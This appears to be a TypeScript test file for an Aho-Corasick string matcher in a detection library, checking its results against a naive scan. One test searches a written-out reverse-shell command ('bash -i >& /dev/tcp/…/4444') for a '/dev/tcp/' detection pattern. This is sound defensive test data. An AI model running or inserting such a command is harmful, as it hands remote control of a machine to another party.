import { test } from 'node:test';
import assert from 'node:assert/strict';
import { seededRandom } from '@vigil/common';
import { buildAhoCorasick } from './aho-corasick.js';

function naiveFind(patterns: readonly string[], text: string): number[] {
  return patterns.flatMap((p, i) => (p.length && text.includes(p) ? [i] : [])).sort((a, b) => a - b);
}

function found(patterns: readonly string[], text: string): number[] {
  const seen = new Set<number>();
  buildAhoCorasick(patterns).search(text, (i) => seen.add(i));
  return [...seen].sort((a, b) => a - b);
}

test('finds overlapping, nested and suffix patterns', () => {
  const patterns = ['he', 'she', 'his', 'hers', 'e', '/dev/tcp/', 'dev'];
  assert.deepEqual(found(patterns, 'ushers'), [0, 1, 3, 4]);
  assert.deepEqual(found(patterns, 'bash -i >& /dev/tcp/10.0.0.1/4444'), [4, 5, 6]);
  assert.deepEqual(found(patterns, ''), []);
  assert.deepEqual(found([''], 'anything'), []);
});

test('non-ASCII code units and units no pattern uses', () => {
  assert.deepEqual(found(['–c', 'ü'], 'cmd –c grüß'), [0, 1]);
  assert.deepEqual(found(['abc'], 'ab\u2014abc'), [0]);
});

test('property: same patterns found as a naive includes() scan (seeded, 2,000 cases)', () => {
  const random = seededRandom(42);
  const alphabet = 'abc-/ \\é';
  const word = (max: number) => Array.from({ length: 1 + Math.floor(random() * max) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
  for (let n = 0; n < 2000; n++) {
    const patterns = Array.from({ length: 1 + Math.floor(random() * 12) }, () => word(5));
    const text = word(60);
    assert.deepEqual(found(patterns, text), naiveFind(patterns, text), `patterns ${JSON.stringify(patterns)} text ${JSON.stringify(text)}`);
    assert.equal(buildAhoCorasick(patterns).test(text), naiveFind(patterns, text).length > 0);
  }
});

test('large automata (more than 65,536 states: 32-bit table) find the same as a naive scan', () => {
  const random = seededRandom(7);
  const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789\\.-';
  const word = (length: number) => Array.from({ length }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
  const patterns = Array.from({ length: 12000 }, () => word(9));
  const automaton = buildAhoCorasick(patterns);
  assert.ok(automaton.stateCount > 65536, `expected a large automaton, got ${automaton.stateCount} states`);
  for (let n = 0; n < 200; n++) {
    const text = word(40) + patterns[Math.floor(random() * patterns.length)] + word(40);
    const seen = new Set<number>();
    automaton.search(text, (i) => seen.add(i));
    assert.deepEqual([...seen].sort((a, b) => a - b), naiveFind(patterns, text));
    assert.equal(automaton.test(text), true);
  }
});
